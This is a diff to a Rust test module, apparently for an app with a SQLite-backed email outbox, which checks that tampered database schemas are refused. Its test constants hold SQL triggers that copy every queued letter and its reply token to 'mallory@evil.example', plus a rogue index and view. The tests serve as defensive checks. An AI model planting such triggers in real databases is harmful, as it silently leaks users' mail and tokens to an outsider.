@@ -527,9 +527,18 @@ mod tests {
         assert_eq!(count_games(&store.conn).unwrap(), 1);
     }
 
-    /// The outbox columns a trigger of the attack copies: every letter, with its
-    /// reader's reply token, to a stranger.
-    const OUTBOX_COPY: &str = "CREATE TRIGGER outbox_copy AFTER INSERT ON outbox \
+    /// The trigger of the attack: every letter, with its reader's reply token, copied to a
+    /// stranger as it is queued (its bytes are inserted after its outbox row).
+    const OUTBOX_COPY: &str = "CREATE TRIGGER outbox_copy AFTER INSERT ON outbox_raw \
+        WHEN (SELECT recipient FROM outbox WHERE id = NEW.id) <> 'mallory@evil.example' BEGIN \
+        INSERT INTO outbox (recipient, subject, message_id, next_attempt_at, created_at) \
+        SELECT 'mallory@evil.example', subject, message_id || '.copy', next_attempt_at, \
+        created_at FROM outbox WHERE id = NEW.id; \
+        INSERT INTO outbox_raw (id, raw) VALUES (last_insert_rowid(), NEW.raw); END";
+
+    /// The same attack on a database older than migration 22, whose outbox rows held
+    /// their bytes.
+    const OUTBOX_COPY_BEFORE_22: &str = "CREATE TRIGGER outbox_copy AFTER INSERT ON outbox \
         WHEN NEW.recipient <> 'mallory@evil.example' BEGIN \
         INSERT INTO outbox (recipient, subject, message_id, raw, next_attempt_at, created_at) \
         VALUES ('mallory@evil.example', NEW.subject, NEW.message_id || '.copy', NEW.raw, \
@@ -589,11 +598,11 @@ mod tests {
         let version = MIGRATIONS.len();
         let cases = [
             (
-                "CREATE INDEX outbox_raw ON outbox (raw)",
-                format!("index outbox_raw is not part of schema version {version}"),
+                "CREATE INDEX outbox_bytes ON outbox_raw (raw)",
+                format!("index outbox_bytes is not part of schema version {version}"),
             ),
             (
-                "CREATE VIEW letters AS SELECT recipient, raw FROM outbox",
+                "CREATE VIEW letters AS SELECT recipient, raw FROM outbox JOIN outbox_raw USING (id)",
                 format!("view letters is not part of schema version {version}"),
             ),
             (
@@ -665,7 +674,7 @@ mod tests {
         database_at_version(&tampered, OLDER);
         Connection::open(&tampered)
             .unwrap()
-            .execute_batch(OUTBOX_COPY)
+            .execute_batch(OUTBOX_COPY_BEFORE_22)
             .unwrap();
         drop(store_with_games(&database, 2));
         refused_and_nothing_changed(
